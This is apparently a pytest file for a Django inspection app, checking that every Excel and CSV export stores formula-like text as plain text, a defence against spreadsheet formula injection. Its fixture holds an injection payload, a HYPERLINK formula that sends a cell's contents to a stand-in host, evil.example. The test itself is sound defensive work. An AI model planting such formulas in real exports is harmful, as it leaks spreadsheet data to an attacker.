"""Every Excel and CSV export writes text that looks like a formula as text
(M4). The exports are found from the URLconf: a view that answers through
core.xlsx's xlsx_response or csv_response is an export, and each is opened
here with records whose text starts with "="."""

import ast
import csv
import inspect
import io
from datetime import date
from pathlib import Path
from urllib.parse import urlencode

import pytest
from django.conf import settings
from django.urls import reverse
from openpyxl import load_workbook

from gembahall.core.audit import event_record
from gembahall.core.xlsx import FORMULA_START, csv_text
from gembahall.inspections.models import ItemResult
from gembahall.reports.forms import default_periods
from tests import factories as f
from tests.routes_matrix import ROUTES

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
PACKAGE = Path(settings.BASE_DIR) / "gembahall"
HELPERS = ("xlsx_response(", "csv_response(")


def _exports() -> dict[str, object]:
    found = {}
    for name, pattern in ROUTES:
        view = inspect.unwrap(pattern.callback)
        try:
            source = inspect.getsource(view)
        except (OSError, TypeError):
            continue
        if any(helper in source for helper in HELPERS):
            found[name] = pattern
    return found


@pytest.fixture
def poisoned(hall):
    """A hall whose every kind of free text starts with a formula."""
    center = hall.center
    center.name = FORMULA
    center.save(update_fields=["name"])
    checklist = f.checklist(center, n=1, code="WIN")
    item = checklist.items.get()
    item.criterion = FORMULA
    item.save(update_fields=["criterion"])
    inspection = f.inspection(hall.w1, checklist)
    ItemResult.objects.create(
        center=center, inspection=inspection, item=item, note=FORMULA
    )
    f.problem(hall.w1, description=FORMULA)
    event_record(actor=hall.inspector, action="photo.store", target_repr=FORMULA)
    hall.auditor = f.person(center, username="hall-auditor")
    f.grant(hall.auditor, "auditor")
    hall.checklist = checklist
    return hall


# How each export is asked for: who, the URL's arguments, the query.
CALLS = {
    "core:audit_export": lambda h: (h.auditor, [], ""),
    "rectification:dashboard_export": lambda h: (h.inspector, [], ""),
    "inspections:export": lambda h: (
        h.inspector,
        [],
        "start=2026-01-01&end=2026-01-31",
    ),
    "inspections:checklist_export": lambda h: (
        h.inspector,
        [h.checklist.public_id],
        "",
    ),
    "reports:before_after": lambda h: (
        h.director,
        [],
        urlencode({**default_periods(h.center, date(2026, 6, 1)), "format": "xlsx"}),
    ),
}


def test_every_export_is_known_to_this_test():
    """A new export fails here until CALLS says how to ask for it."""
    assert sorted(_exports()) == sorted(CALLS)


def _cells(response) -> list:
    if response["Content-Type"].startswith("text/csv"):
        text = response.content.decode("utf-8-sig")
        return [("s", v) for row in csv.reader(io.StringIO(text)) for v in row]
    book = load_workbook(io.BytesIO(response.content))
    return [
        (cell.data_type, cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


@pytest.mark.parametrize("name", sorted(CALLS))
def test_text_that_looks_like_a_formula_is_exported_as_text(client, poisoned, name):
    person, args, query = CALLS[name](poisoned)
    f.signed_in(client, person)
    response = client.get(f"{reverse(name, args=args)}?{query}")
    assert response.status_code == 200, name
    assert response["Content-Disposition"].startswith("attachment")
    cells = _cells(response)
    assert not [value for kind, value in cells if kind == "f"], name
    texts = [value for kind, value in cells if isinstance(value, str)]
    if response["Content-Type"].startswith("text/csv"):
        assert "'" + FORMULA in texts, name
    else:
        assert FORMULA in texts, name  # the record is there, as text


def test_csv_cells_that_look_like_formulas_are_marked_as_text():
    body = csv_text(["名称"], [[start + "1"] for start in FORMULA_START] + [["-"]])
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert all(row[0].startswith("'") for row in rows[1:])


def test_no_module_writes_a_spreadsheet_but_the_one_helper():
    """openpyxl and csv writers are used in core/xlsx.py only (the demo and
    the first set-up write CSV files for their own imports: no export)."""
    allowed = {
        PACKAGE / "core" / "xlsx.py",
        PACKAGE / "demo" / "casework.py",
        PACKAGE / "setup" / "services.py",
    }
    offenders = []
    for path in PACKAGE.rglob("*.py"):
        if path in allowed or "migrations" in path.parts:
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            module = (
                node.module
                if isinstance(node, ast.ImportFrom)
                else " ".join(a.name for a in node.names)
                if isinstance(node, ast.Import)
                else ""
            ) or ""
            writes_csv = (
                isinstance(node, ast.Attribute)
                and node.attr in ("writer", "DictWriter")
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            )
            if "openpyxl" in module or writes_csv:
                offenders.append(f"{path.relative_to(PACKAGE)}:{node.lineno}")
    assert offenders == []
